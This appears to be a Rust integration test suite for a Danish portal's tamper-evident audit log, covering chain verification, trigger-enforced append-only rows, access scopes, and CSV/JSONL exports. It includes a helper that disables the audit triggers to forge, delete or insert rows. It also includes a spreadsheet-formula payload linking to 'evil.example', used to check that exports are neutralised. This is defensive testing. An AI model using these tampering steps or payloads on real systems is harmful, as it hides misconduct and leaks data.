//! The audit log: a chain that verifies after real use, a database that refuses changes,
//! tampering of every kind found and named (in SQLite and PostgreSQL), concurrent writers
//! forming one chain, the `audit verify` command, the viewer's scopes and filters, the
//! exports (formula-looking values shown as text), and request ids tying rows to the logs.

use diesel::prelude::*;
use reqwest::StatusCode;
use tilslutning::db::audit::chain::{AuditRow, row_hash};
use tilslutning::db::audit::{ChainBreak, verify};
use tilslutning::db::schema::audit_log;

use crate::helpers::*;

fn verify_now(app: &TestApp) -> Result<i64, ChainBreak> {
    app.with_db(|c| verify(c).expect("verify runs"))
        .map(|v| v.rows)
}

fn last_seq(app: &TestApp) -> i64 {
    app.with_db(|c| {
        audit_log::table
            .select(diesel::dsl::max(audit_log::seq))
            .first::<Option<i64>>(c)
            .expect("max")
    })
    .expect("rows")
}

/// Runs SQL as someone with direct database access would: with the append-only
/// triggers out of the way first.
fn tamper(app: &TestApp, sql: &str) {
    let unprotect = if app.db.target().is_sqlite() {
        "DROP TRIGGER IF EXISTS audit_log_no_update; DROP TRIGGER IF EXISTS audit_log_no_delete;"
    } else {
        "ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update_or_delete;"
    };
    app.with_db(|c| {
        use diesel::connection::SimpleConnection;
        c.batch_execute(unprotect).expect("drop protection");
        c.batch_execute(sql).expect("tamper");
    });
}

#[tokio::test]
async fn the_chain_verifies_after_real_use() {
    let app = spawn_app().await;
    let officer = app.login_as(OFFICER).await;
    let (id, _) = app.pending(PLADS_SERVICE, "G10201");
    officer
        .post(
            &format!("/requests/{id}/decision"),
            &[("decision", "approve"), ("scopes", "STAMDATA")],
        )
        .await;
    let (_, failed) = app.try_login(SUPPLIER, "wrong password").await;
    assert_eq!(failed.status, StatusCode::UNPROCESSABLE_ENTITY);
    let rows = verify_now(&app).expect("intact");
    assert_eq!(rows, app.count("audit_log"));
    assert!(rows > 20, "the demo and this test wrote rows: {rows}");
}

#[tokio::test]
async fn the_database_refuses_to_change_or_delete_audit_rows() {
    let app = spawn_app().await;
    for sql in [
        "UPDATE audit_log SET details = '{}' WHERE seq = 1",
        "DELETE FROM audit_log WHERE seq = 1",
    ] {
        let refused = app.with_db(|c| diesel::sql_query(sql).execute(c));
        let message = refused.expect_err("the trigger refuses").to_string();
        assert!(message.contains("append-only"), "{sql}: {message}");
    }
    assert!(verify_now(&app).is_ok());
}

#[tokio::test]
async fn a_changed_row_is_named() {
    let app = spawn_app().await;
    tamper(
        &app,
        "UPDATE audit_log SET details = '{\"reference\":\"forfalsket\"}' WHERE seq = 5",
    );
    assert_eq!(verify_now(&app), Err(ChainBreak::ContentChanged { seq: 5 }));
}

#[tokio::test]
async fn a_changed_row_with_a_recomputed_hash_breaks_the_next_link() {
    let app = spawn_app().await;
    let mut row: AuditRow = app.with_db(|c| {
        audit_log::table
            .find(5_i64)
            .select(AuditRow::as_select())
            .first(c)
            .expect("row 5")
    });
    row.actor_user_id = None;
    let forged = row_hash(&row);
    tamper(
        &app,
        &format!("UPDATE audit_log SET actor_user_id = NULL, hash = '{forged}' WHERE seq = 5"),
    );
    assert_eq!(verify_now(&app), Err(ChainBreak::LinkBroken { seq: 6 }));
}

#[tokio::test]
async fn a_deleted_row_is_named() {
    let app = spawn_app().await;
    tamper(&app, "DELETE FROM audit_log WHERE seq = 7");
    assert_eq!(
        verify_now(&app),
        Err(ChainBreak::RowsMissing { from: 7, to: 7 })
    );
}

#[tokio::test]
async fn deleting_the_newest_rows_is_caught_by_the_recorded_end() {
    let app = spawn_app().await;
    let last = last_seq(&app);
    tamper(
        &app,
        &format!("DELETE FROM audit_log WHERE seq >= {}", last - 1),
    );
    assert_eq!(
        verify_now(&app),
        Err(ChainBreak::RowsMissing {
            from: last - 1,
            to: last
        })
    );
}

#[tokio::test]
async fn an_inserted_row_is_named() {
    let app = spawn_app().await;
    let last = last_seq(&app);
    tamper(
        &app,
        &format!(
            "INSERT INTO audit_log (seq, id, occurred_at, actor_user_id, actor_role, delegation, action, target_type, \
             target_id, institution_number, supplier_id, details, client_addr, request_id, prev_hash, hash) \
             SELECT seq + 1, 'indsat', occurred_at, actor_user_id, actor_role, delegation, 'request.approved', \
             target_type, target_id, institution_number, supplier_id, details, client_addr, request_id, hash, hash \
             FROM audit_log WHERE seq = {last}"
        ),
    );
    let broken = verify_now(&app).expect_err("caught");
    assert_eq!(broken.first_seq(), last + 1, "{broken}");
}

#[tokio::test]
async fn concurrent_writers_form_one_unbroken_chain() {
    let app = spawn_app().await;
    let supplier = app.login_as(SUPPLIER).await;
    let units = [
        "G10101", "G10102", "G10103", "G10104", "G10204", "G10301", "G10302", "G10303", "G10403",
        "G10404",
    ];
    let filings = units
        .iter()
        .map(|u| app.file(&supplier, PLADS_SERVICE, &["STAMDATA"], u));
    for page in futures::future::join_all(filings).await {
        assert_eq!(page.status, StatusCode::SEE_OTHER);
    }
    let officer = app.login_as(OFFICER).await;
    let paths: Vec<String> = units
        .iter()
        .map(|u| format!("/requests/{}/decision", app.pending(PLADS_SERVICE, u).0))
        .collect();
    let decisions = paths
        .iter()
        .map(|p| officer.post(p, &[("decision", "approve"), ("scopes", "STAMDATA")]));
    for page in futures::future::join_all(decisions).await {
        assert_eq!(page.status, StatusCode::SEE_OTHER);
    }
    let rows = verify_now(&app).expect("one chain");
    assert_eq!(rows, last_seq(&app));
}

#[tokio::test]
async fn the_verify_command_reports_the_count_or_the_first_broken_row() {
    let app = spawn_app().await;
    let run = || {
        std::process::Command::new(env!("CARGO_BIN_EXE_tilslutning"))
            .args(["audit", "verify"])
            .env("TILSLUTNING_DATABASE_URL", &app.settings.database_url)
            .env("TILSLUTNING_DATA_DIR", &app.settings.data_dir)
            .output()
            .expect("runs")
    };
    let ok = run();
    assert!(ok.status.success());
    let out = String::from_utf8_lossy(&ok.stdout);
    assert!(
        out.contains(&format!(
            "Audit log intact: {} rows",
            app.count("audit_log")
        )),
        "{out}"
    );
    tamper(
        &app,
        "UPDATE audit_log SET action = 'request.approved' WHERE seq = 3",
    );
    let broken = run();
    assert!(!broken.status.success());
    let err = String::from_utf8_lossy(&broken.stderr);
    assert!(err.contains("row 3"), "{err}");
}

#[tokio::test]
async fn each_reader_sees_the_rows_of_their_scope() {
    let app = spawn_app().await;
    let supplier = app.login_as(SUPPLIER).await;
    let filed = app
        .file(&supplier, PLADS_SERVICE, &["STAMDATA"], "G20101")
        .await;
    assert_eq!(filed.status, StatusCode::SEE_OTHER);
    let (_, frederiksberg) = app.pending(PLADS_SERVICE, "G20101");
    let (_, koebenhavn) = app.pending(PLADS_SERVICE, "G10201");

    let operator = app.login_as(OPERATOR).await;
    let all = operator.get("/audit?action=request.filed").await;
    assert!(all.contains(&frederiksberg) && all.contains(&koebenhavn));
    for email in [OFFICER, AUDITOR] {
        let reader = app.login_as(email).await;
        let page = reader.get("/audit?action=request.filed").await;
        assert_eq!(page.status, StatusCode::OK, "{email}");
        assert!(page.contains(&koebenhavn), "{email} sees København");
        assert!(
            !page.contains(&frederiksberg),
            "{email} does not see Frederiksberg"
        );
        let csv = reader.get("/audit/export.csv").await;
        assert!(
            !csv.contains("G20101"),
            "{email}'s export keeps to the scope"
        );
    }
    for email in [SUPPLIER, STAFF] {
        let page = app.login_as(email).await.get("/audit").await;
        assert_eq!(page.status, StatusCode::FORBIDDEN, "{email}");
        let export = app.login_as(email).await.get("/audit/export.csv").await;
        assert_eq!(export.status, StatusCode::FORBIDDEN, "{email}");
    }
}

#[tokio::test]
async fn rows_carry_the_municipality_of_their_institution_when_written() {
    let app = spawn_app().await;
    let supplier = app.login_as(SUPPLIER).await;
    // One institution (one row) and a klynge (one row per unit, written together).
    for number in ["G20101", "G10300"] {
        let filed = app
            .file(&supplier, PLADS_SERVICE, &["STAMDATA"], number)
            .await;
        assert_eq!(filed.status, StatusCode::SEE_OTHER, "{number}");
    }
    let rows: Vec<(Option<String>, Option<String>, String)> = app.with_db(|c| {
        audit_log::table
            .filter(audit_log::action.eq_any(["request.filed", "user.login"]))
            .select((
                audit_log::institution_number,
                audit_log::municipality_code,
                audit_log::action,
            ))
            .load(c)
            .expect("rows")
    });
    let of = |number: &str| -> Vec<Option<String>> {
        rows.iter()
            .filter(|(n, _, _)| n.as_deref() == Some(number))
            .map(|(_, m, _)| m.clone())
            .collect()
    };
    for (number, municipality) in [
        ("G20101", "147"),
        ("G10301", "101"),
        ("G10302", "101"),
        ("G10303", "101"),
    ] {
        let found = of(number);
        assert!(
            !found.is_empty() && found.iter().all(|m| m.as_deref() == Some(municipality)),
            "{number}: {found:?}"
        );
    }
    let sign_ins: Vec<_> = rows.iter().filter(|(_, _, a)| a == "user.login").collect();
    assert!(!sign_ins.is_empty());
    assert!(
        sign_ins.iter().all(|(n, m, _)| n.is_none() && m.is_none()),
        "a row about a person belongs to no municipality: {sign_ins:?}"
    );
}

#[tokio::test]
async fn filters_and_pages_narrow_the_view() {
    let app = spawn_app().await;
    let operator = app.login_as(OPERATOR).await;
    let approved = operator.get("/audit?action=request.approved").await;
    assert!(approved.contains("Anmodning godkendt"));
    assert!(approved.contains("<p class=\"muted\">request.approved</p>"));
    assert!(!approved.contains("<p class=\"muted\">request.filed</p>"));
    let by_institution = operator.get("/audit?institution=G10601").await;
    assert!(by_institution.contains("G10601") && !by_institution.contains(">G10401<"));
    let by_actor = operator.get(&format!("/audit?actor={}", STAFF)).await;
    assert!(by_actor.contains("Sofie Selvejende") && !by_actor.contains("Karin Kommune"));
    let unknown = operator
        .get("/audit?actor=ingen%40example.org&from=31-11-2026")
        .await;
    assert_eq!(unknown.status, StatusCode::OK);
    assert!(
        unknown.contains("Der findes ingen bruger")
            && unknown.contains("Fra-datoen skal skrives som dag, måned og år"),
        "{}",
        unknown.body
    );
    assert!(unknown.contains("<title>Fejl: Revisionslog"));
    let future = operator.get("/audit?from=2999-01-01").await;
    assert!(future.contains("Ingen hændelser matcher."));

    // Enough rows for more than one page of 50.
    let supplier = app.login_as(SUPPLIER).await;
    let many: String = [1, 2, 4, 6, 7]
        .iter()
        .flat_map(|k| (1..=4).map(move |u| format!("G2{k:02}{u:02}\n")))
        .collect();
    assert_eq!(
        app.file(&supplier, PLADS_SERVICE, &["STAMDATA"], &many)
            .await
            .status,
        StatusCode::SEE_OTHER
    );
    assert!(app.count("audit_log") > 50);
    let first = operator.get("/audit").await;
    let older = first
        .body
        .split("href=\"")
        .find_map(|s| s.split('"').next().filter(|l| l.contains("before=")))
        .expect("older link");
    let older = older.replace("&amp;", "&");
    let bound: i64 = older
        .rsplit("before=")
        .next()
        .and_then(|n| n.parse().ok())
        .expect("bound");
    let second = operator.get(&older).await;
    assert!(second.contains("← Nyeste"));
    assert!(
        second.contains(&format!("(Nr. {})", bound - 1)),
        "the next page starts right below the bound"
    );
    assert!(!second.contains(&format!("(Nr. {bound})")));
}

#[tokio::test]
async fn exports_stream_every_row_in_scope() {
    let app = spawn_app().await;
    let operator = app.login_as(OPERATOR).await;
    let total = app.count("audit_log");
    let response = operator
        .client
        .get(format!("{}/audit/export.csv", app.address))
        .send()
        .await
        .expect("GET");
    assert_eq!(response.status(), StatusCode::OK);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap_or_default()
            .starts_with("text/csv")
    );
    let body = response.text().await.expect("body");
    assert!(body.starts_with('\u{feff}'), "Excel reads UTF-8 with a BOM");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let headers = reader.headers().expect("header").clone();
    assert_eq!(&headers[0], "seq");
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
    // Logging in as the operator wrote one more row after the count.
    assert!(records.len() as i64 >= total, "{} < {total}", records.len());
    assert!(
        records
            .iter()
            .any(|r| r[7].contains("Sofie") || r[2].contains("Sofie"))
    );
    let seqs: Vec<i64> = records.iter().map(|r| r[0].parse().expect("seq")).collect();
    assert!(seqs.windows(2).all(|w| w[0] < w[1]), "oldest first");

    let lines = operator
        .get("/audit/export.jsonl?action=request.filed")
        .await;
    let parsed: Vec<serde_json::Value> = lines
        .body
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect();
    assert!(!parsed.is_empty());
    assert!(parsed.iter().all(|v| v["action"] == "request.filed" && v["hash"].as_str().map(str::len) == Some(64)));
}

/// Names a provider may send that a spreadsheet would run as formulas.
const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?leak\",\"Klik her\")",
    "+1",
    "-2+3",
    "@SUM(1)",
    "-5",
];

#[tokio::test]
async fn the_csv_export_shows_formula_like_values_as_text() {
    let provider = OidcProvider::shared();
    let app = spawn_app_with(Options {
        oidc_issuer: Some(provider.issuer.clone()),
        oidc_organisation_claim: true,
        ..Options::default()
    })
    .await;
    // People the provider names, made municipal officers by its organisation claim: each
    // sign-in writes audit rows with that name as the actor.
    for (n, name) in FORMULAS.iter().enumerate() {
        let sub = format!("csv-{n}-{}", uuid::Uuid::now_v7().simple());
        provider
            .register(serde_json::json!({
                "sub": sub, "email": format!("csv{n}@frederiksberg.example.dk"),
                "name": name, "organisation": "147"
            }))
            .await;
        let (_, page) = crate::oidc::sign_in(&app, &sub).await;
        assert_eq!(page.status, StatusCode::SEE_OTHER, "{name}: {}", page.body);
    }
    let operator = app.login_as(OPERATOR).await;
    let export = operator.get("/audit/export.csv").await;
    assert_eq!(export.status, StatusCode::OK);
    assert!(
        export.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Klik her\"\")\""),
        "quoted as the csv crate quotes, quotes doubled"
    );
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(export.body.trim_start_matches('\u{feff}').as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
    let cells: Vec<&str> = records.iter().flat_map(|r| r.iter()).collect();
    let dangerous = ['=', '+', '-', '@', '\t', '\r'];
    let live: Vec<&&str> = cells.iter().filter(|c| c.starts_with(dangerous)).collect();
    assert!(
        live.is_empty(),
        "cells a spreadsheet would evaluate: {live:?}"
    );
    for name in FORMULAS {
        assert!(
            records.iter().any(|r| r[2] == format!("'{name}")),
            "{name} is in the export as text"
        );
    }
    // What must stay readable does: numbers and times are untouched, an ordinary name too,
    // and a program gets each original back by dropping one leading apostrophe.
    assert!(records.iter().all(|r| r[0].parse::<i64>().is_ok()));
    assert!(records.iter().all(|r| r[1].starts_with("20")));
    assert!(
        records
            .iter()
            .any(|r| &r[2] == "Systemet" || r[2].starts_with("Sofie"))
    );
    assert!(
        records
            .iter()
            .any(|r| r[2].strip_prefix('\'') == Some("-5"))
    );
}

#[tokio::test]
async fn rows_carry_the_request_id_the_response_announced() {
    let app = spawn_app().await;
    let supplier = app.login_as(SUPPLIER).await;
    let (id, _) = app.pending(APP_SERVICE, "101001");
    let response = supplier
        .client
        .post(format!("{}/requests/{id}/withdraw", app.address))
        .form(&[("csrf", supplier.csrf.as_str())])
        .send()
        .await
        .expect("POST");
    let announced = response
        .headers()
        .get("x-request-id")
        .and_then(|v| v.to_str().ok())
        .expect("header")
        .to_string();
    let stored: Option<String> = app.with_db(|c| {
        audit_log::table
            .filter(audit_log::target_id.eq(&id))
            .filter(audit_log::action.eq("request.withdrawn"))
            .select(audit_log::request_id)
            .first(c)
            .expect("row")
    });
    assert_eq!(stored.as_deref(), Some(announced.as_str()));
}

/// The viewer's action filter comes from the code list, so every action the portal
/// writes must be in it (with its Danish label) — checked after real use.
#[tokio::test]
async fn every_action_written_is_in_the_filters_code_list() {
    let app = spawn_app().await;
    let (_, bad) = app.try_login(OFFICER, "wrong-password").await;
    assert_ne!(bad.status, StatusCode::SEE_OTHER);
    let officer = app.login_as(OFFICER).await;
    let (id, _) = app.pending(APP_SERVICE, "G10101");
    officer
        .post(
            &format!("/requests/{id}/decision"),
            &[("decision", "reject"), ("reason", "Nej tak.")],
        )
        .await;
    officer.post("/logout", &[]).await;
    let written: Vec<String> = app.with_db(|c| {
        audit_log::table
            .select(audit_log::action)
            .distinct()
            .load(c)
            .expect("actions")
    });
    assert!(written.len() >= 8, "{written:?}");
    let known: Vec<&str> = tilslutning::domain::audit_actions::ACTIONS.to_vec();
    for code in &written {
        assert!(
            known.contains(&code.as_str()),
            "{code} is not in the code list"
        );
    }
    let page = app.login_as(OPERATOR).await.get("/audit").await;
    assert!(
        page.contains("<option value=\"delegation.granted\">Fuldmagt givet</option>"),
        "{}",
        page.body
    );
}
